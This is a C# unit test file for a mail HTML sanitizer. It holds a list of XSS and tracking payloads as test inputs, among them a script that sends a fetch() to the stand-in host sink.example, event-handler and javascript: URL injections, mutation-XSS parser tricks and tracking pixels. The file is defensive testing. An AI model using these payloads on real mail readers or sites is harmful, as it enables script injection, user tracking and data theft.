using AngleSharp.Html.Parser;
using Headway.Application.Mail;
using Shouldly;
using Xunit;

namespace Headway.Tests.Mail;

public sealed class SafeHtmlTests
{
    /// <summary>Attacks on mail readers of twenty years; each asks for a script or for another host in its own way.</summary>
    public static TheoryData<string> Attacks => [
        "<script>fetch('https://sink.example')</script>",
        "<img src=x onerror=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg/onload=alert(1)>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<style>@import url(https://sink.example/a.css);body{background:url(https://sink.example)}</style>",
        "<div style=\"background:url(https://sink.example/x)\">x</div>",
        "<div style=\"background:u\\72l(https://sink.example/x);width:expression(alert(1))\">x</div>",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9\">over</div>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" java\tscript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"https://good.example@evil.example/\">x</a>",
        "<iframe src=\"https://sink.example\"></iframe><embed src=https://sink.example><object data=https://sink.example></object>",
        "<form action=https://sink.example><input name=p><button formaction=https://sink.example>go</button></form>",
        "<base href=\"https://sink.example/\"><a href=\"/x\">x</a>",
        "<meta http-equiv=refresh content=\"0;url=https://sink.example\">",
        "<link rel=stylesheet href=https://sink.example/a.css>",
        "<table background=https://sink.example/a.gif><tr><td background=https://sink.example/b.gif>x</td></tr></table>",
        "<img src=https://sink.example/pixel.gif width=1 height=1>",
        "<img src=\"//sink.example/pixel.gif\" srcset=\"https://sink.example/2x.gif 2x\">",
        "<video src=https://sink.example/v poster=https://sink.example/p></video><audio src=https://sink.example/a></audio>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<textarea></textarea><img src=x onerror=alert(1)>",
        "<p id=submit name=csrf class=btn onmouseover=alert(1)>x</p>",
        "<template><script>alert(1)</script></template>",
        "<details open ontoggle=alert(1)>x</details>",
        "<img alt=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">",
        "<select><style></select><img src=x onerror=alert(1)></style></select>",
        "<a href=\"https://x.example\" ping=\"https://sink.example\" style=\"behavior:url(#x)\">x</a>",
    ];

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Clean_When_AnAttackIsInIt_Then_OnlyHarmlessTagsRemainAndReadingItAgainChangesNothing(string html)
    {
        var safe = SafeHtml.Of($"<p>before</p>{html}<p>after</p>", pictures: false, out _);

        var document = new HtmlParser().ParseDocument(safe);
        foreach (var element in document.Body!.QuerySelectorAll("*"))
        {
            element.NamespaceUri.ShouldBe("http://www.w3.org/1999/xhtml");
            element.LocalName.ShouldNotBeOneOf("script", "style", "svg", "math", "iframe", "object", "embed", "form", "input", "button", "img", "link", "meta", "base", "video", "audio", "template");
            foreach (var attribute in element.Attributes)
            {
                attribute.Name.ShouldNotStartWith("on");
                attribute.Name.ShouldNotBeOneOf("id", "class", "name", "src", "srcset", "background", "ping", "action", "formaction", "poster");
                attribute.Value.ShouldNotContain("script:");
                attribute.Value.ShouldNotContain("url(");
                attribute.Value.ShouldNotContain("position");
            }
        }

        safe.ShouldNotContain("sink.example");
        SafeHtml.Of(safe, pictures: false, out _).ShouldBe(safe);
    }

    [Fact]
    public void Clean_When_PicturesAreAskedFor_Then_OnlyEncryptedOnesOfOtherHostsCome()
    {
        const string html = "<img src=https://pic.example/a.png alt=Plan width=20><img src=http://pic.example/b.png alt=Open><img src=cid:1 alt=Inside><img src=data:image/png;base64,AA alt=Data>";

        var shown = SafeHtml.Of(html, pictures: true, out _);
        var plain = SafeHtml.Of(html, pictures: false, out var blocked);

        shown.ShouldContain("src=\"https://pic.example/a.png\"");
        shown.ShouldNotContain("b.png");
        shown.ShouldNotContain("cid:");
        shown.ShouldNotContain("data:");
        plain.ShouldNotContain("<img");
        blocked.ShouldBe(2);
    }

    [Fact]
    public void Clean_When_ItIsAnOrdinaryMail_Then_ItsLookStays()
    {
        const string html = "<p style=\"color:#333;font-weight:bold\">Hello <b>Sam</b></p><ul><li>one</li></ul><a href=\"https://calder.example/a?b=1&amp;c=2\">link</a><table><tbody><tr><td>1</td></tr></tbody></table>";

        var safe = SafeHtml.Of(html, pictures: false, out _);

        safe.ShouldContain("color:#333;font-weight:bold;");
        safe.ShouldContain("<li>one</li>");
        safe.ShouldContain("href=\"https://calder.example/a?b=1&amp;c=2\" rel=\"noopener noreferrer nofollow\"");
    }

    [Theory]
    [InlineData(600)]
    [InlineData(20_000)]
    public void Clean_When_ItIsNestedDeeply_Then_ItEnds(int depth)
    {
        var safe = SafeHtml.Of(string.Concat(Enumerable.Repeat("<div><b><table><tr><td>", depth)) + "core", pictures: false, out _);

        safe.Length.ShouldBeLessThan(3_000_000);
    }

    [Theory, Trait("Category", "Soak")]
    [InlineData(600)]
    [InlineData(20_000)]
    public void Clean_When_ItIsNestedDeeply_Then_ItEndsAtOnce(int depth)
    {
        var began = System.Diagnostics.Stopwatch.StartNew();
        Clean_When_ItIsNestedDeeply_Then_ItEnds(depth);
        began.Elapsed.ShouldBeLessThan(TimeSpan.FromSeconds(20));
    }
}
